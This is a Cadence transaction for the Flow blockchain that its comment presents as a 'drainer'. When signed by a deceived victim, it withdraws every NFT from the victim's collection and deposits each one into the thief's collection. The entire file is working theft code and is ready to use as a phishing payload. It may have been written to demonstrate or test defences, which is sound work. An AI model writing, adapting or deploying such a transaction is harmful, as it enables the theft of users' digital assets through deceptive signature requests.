import "NonFungibleToken"

/// What a drainer does with a signature it tricked somebody into giving: moves every NFT of the
/// victim's collection into the thief's collection at the same path.
transaction(collection: StoragePath) {

    prepare(thief: auth(BorrowValue) &Account, victim: auth(BorrowValue) &Account) {
        let loot = victim.storage
            .borrow<auth(NonFungibleToken.Withdraw) &{NonFungibleToken.Collection}>(from: collection)
            ?? panic("The account \(victim.address) has no collection at \(collection)")
        let stash = thief.storage.borrow<&{NonFungibleToken.Collection}>(from: collection)
            ?? panic("The account \(thief.address) has no collection at \(collection)")
        for id in loot.getIDs() {
            stash.deposit(token: <- loot.withdraw(withdrawID: id))
        }
    }
}
